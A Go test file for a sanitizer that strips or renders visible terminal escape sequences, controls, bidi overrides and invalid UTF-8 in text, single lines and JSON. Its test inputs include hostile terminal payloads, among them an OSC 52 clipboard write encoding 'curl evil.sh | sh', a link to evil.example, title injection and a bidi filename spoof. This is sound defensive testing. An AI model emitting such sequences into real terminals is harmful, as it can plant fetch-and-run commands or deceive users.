package sanitize_test

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/virgahq/virga/views/sanitize"
)

// dangerous reports whether s still holds anything that could drive a
// terminal: ESC, other C0 controls except tab/newline, DEL, C1, bidi
// overrides/isolates, or invalid UTF-8.
func dangerous(s string, multiline bool) string {
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for _, r := range s {
		switch {
		case r == '\n' || r == '\t':
			if !multiline {
				return "newline or tab in a single line"
			}
		case r < 0x20:
			return "C0 control"
		case r == 0x7f:
			return "DEL"
		case r >= 0x80 && r <= 0x9f:
			return "C1 control"
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return "bidi control"
		}
	}
	return ""
}

func TestSequenceClasses(t *testing.T) {
	cases := map[string]string{
		"csi clear":       "before\x1b[2Jafter",
		"sgr colour":      "\x1b[31mred\x1b[0m",
		"osc title bel":   "\x1b]0;pwned\x07",
		"osc title st":    "\x1b]2;pwned\x1b\\",
		"osc 52":          "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
		"osc 8 link":      "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
		"dcs":             "\x1bP1$r0m\x1b\\",
		"apc":             "\x1b_Gf=100;AAAA\x1b\\",
		"c1 csi":          "\u009b2J",
		"c1 osc":          "\u009d0;title\u009c",
		"bidi override":   "user\u202etxt.exe",
		"bidi isolate":    "a\u2066b\u2069c",
		"invalid utf8":    "ok\xff\xfe\xc3(",
		"del and bell":    "a\x7fb\x07c",
		"cursor movement": "\x1b[10A\x1b[5;5H",
		"lone cr":         "progress 10%\rprogress 99%",
		"bom":             "\ufeff{\"a\":1}",
	}
	for name, in := range cases {
		for _, multiline := range []bool{true, false} {
			var out string
			if multiline {
				out = sanitize.Text(in)
			} else {
				out = sanitize.Line(in)
			}
			if why := dangerous(out, multiline); why != "" {
				t.Errorf("%s (multiline=%v): %s survives in %q", name, multiline, why, out)
			}
		}
	}
}

func TestNothingLostSilently(t *testing.T) {
	got := sanitize.Line("a\x1b[2Jb")
	if got != "a␛[2Jb" {
		t.Fatalf("escape should be shown as a control picture, got %q", got)
	}
	if got := sanitize.Text("one\r\ntwo\tx"); got != "one\ntwo\tx" {
		t.Fatalf("CRLF and tab: got %q", got)
	}
	if got := sanitize.Line("one\ntwo\tx"); got != "one⏎two x" {
		t.Fatalf("single line: got %q", got)
	}
}

func TestPlainTextUnchanged(t *testing.T) {
	for _, s := range []string{"", "hello world", "émoji 🚀 wide 漢字", "REPORT RequestId: 1\tDuration: 2 ms"} {
		if got := sanitize.Text(s); got != s {
			t.Errorf("Text(%q) = %q", s, got)
		}
	}
}

func TestOverlongCut(t *testing.T) {
	in := strings.Repeat("x", sanitize.MaxLine+1000)
	out := sanitize.Line(in)
	if !strings.HasSuffix(out, "[cut 1000 bytes]") {
		t.Fatalf("no cut marker: ...%q", out[len(out)-40:])
	}
	if got := sanitize.LineMax("abcdefghij", 4); got != "abcd … [cut 6 bytes]" {
		t.Fatalf("LineMax: %q", got)
	}
}

func FuzzSanitize(f *testing.F) {
	for _, s := range []string{"\x1b]52;c;AAAA\x07", "\u009b31m", "\xff\xfe", "a\u202eb", "plain", "\r\n\t"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		if why := dangerous(sanitize.Text(in), true); why != "" {
			t.Fatalf("Text: %s survives for input %q", why, in)
		}
		if why := dangerous(sanitize.Line(in), false); why != "" {
			t.Fatalf("Line: %s survives for input %q", why, in)
		}
	})
}

func BenchmarkLinePlain(b *testing.B) {
	s := strings.Repeat("2026-11-25T10:00:00Z INFO request handled in 12ms ", 4)
	b.ReportAllocs()
	for b.Loop() {
		_ = sanitize.Line(s)
	}
}

// TestJSONKeepsTheDocument: a JSON document with every kind of hostile
// text inside stays valid JSON with the same content, and nothing a
// terminal could act on is left raw (encoding/json leaves DEL, C1 and
// bidi controls as they are).
func TestJSONKeepsTheDocument(t *testing.T) {
	hostile := "\x1b]52;c;SGVsbG8=\x07 \u009b2J \x7f \u202eevil\u2069 \ufeff ok é 日本"
	doc, err := json.MarshalIndent(map[string]any{"message": hostile, "n": 1}, "", "\t")
	if err != nil {
		t.Fatal(err)
	}
	out := sanitize.JSON(string(doc))
	var back map[string]any
	if err := json.Unmarshal([]byte(out), &back); err != nil {
		t.Fatalf("not JSON any more: %v\n%s", err, out)
	}
	if back["message"] != hostile {
		t.Errorf("content changed: %q", back["message"])
	}
	for _, r := range out {
		if sanitize.Unsafe(r) && r != '\n' && r != '\t' {
			t.Fatalf("%U left raw in %q", r, out)
		}
	}
	if got := sanitize.JSON("{\"a\":\"\xff\"}"); got != `{"a":"\ufffd"}` {
		t.Errorf("invalid UTF-8: %q", got)
	}
	if plain := `{"a":"b"}`; sanitize.JSON(plain) != plain {
		t.Errorf("a clean document changed")
	}
}
